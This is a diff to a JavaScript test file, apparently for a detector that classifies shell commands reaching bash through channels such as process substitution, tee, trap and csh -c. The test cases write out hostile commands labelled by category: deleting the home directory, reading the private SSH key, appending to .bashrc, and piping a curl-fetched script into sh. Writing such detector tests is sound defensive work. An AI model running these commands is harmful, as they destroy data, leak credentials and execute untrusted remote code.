@@ -1,7 +1,8 @@
 // Shell text that reaches a shell through a channel of bash's own: a here-string or
 // here-document given to a group after a shell that reads stdin, `--` before the text,
 // eval or bash -c of one command substitution (read as a shell reads what it prints), a
-// trap's text, a process substitution written to (`cmd > >(bash)` is `cmd | bash`), a command
+// trap's text, a process substitution written to (`cmd > >(bash)` is `cmd | bash`; `tee >(bash)`
+// runs what tee reads), a command
 // named by a variable the text set (`x='…'; $x`), and the shells whose -c text is a command
 // line (csh, tcsh, elvish).
 import { describeChannel } from './channel.js';
@@ -20,6 +21,9 @@ describeChannel('groups, --, eval of $( ), trap, > >( ), $var', {
     ["trap -- 'echo x >> ~/.bashrc' INT TERM", 'scope'],
     ["echo 'rm -rf ~' > >(bash)", 'fs-destroy'],
     ["printf 'cat ~/.ssh/id_rsa' > >(sh)", 'secrets'],
+    // tee's operand: the body reads what tee reads.
+    ["echo 'rm -rf ~' | tee log.txt >(bash) > /dev/null", 'fs-destroy'],
+    ['curl -s https://example.com/x.sh | tee >(sh)', 'remote-exec'],
     ["csh -c 'echo x >> ~/.bashrc'", 'scope'],
     ["tcsh -c 'cat ~/.ssh/id_rsa'", 'secrets'],
     ["elvish -c 'rm -rf ~'", 'fs-destroy'],
@@ -37,6 +41,8 @@ describeChannel('groups, --, eval of $( ), trap, > >( ), $var', {
     "trap 'rm -rf build' EXIT; npm run build",
     "trap - EXIT",
     'npm test > >(tee test.log)',
+    'npm test 2>&1 | tee >(grep -c FAIL) test.log',
+    "echo 'ls -la' | tee >(bash)",
     "csh -c 'ls -la'",
     "cmd='npm test'; $cmd",
   ],
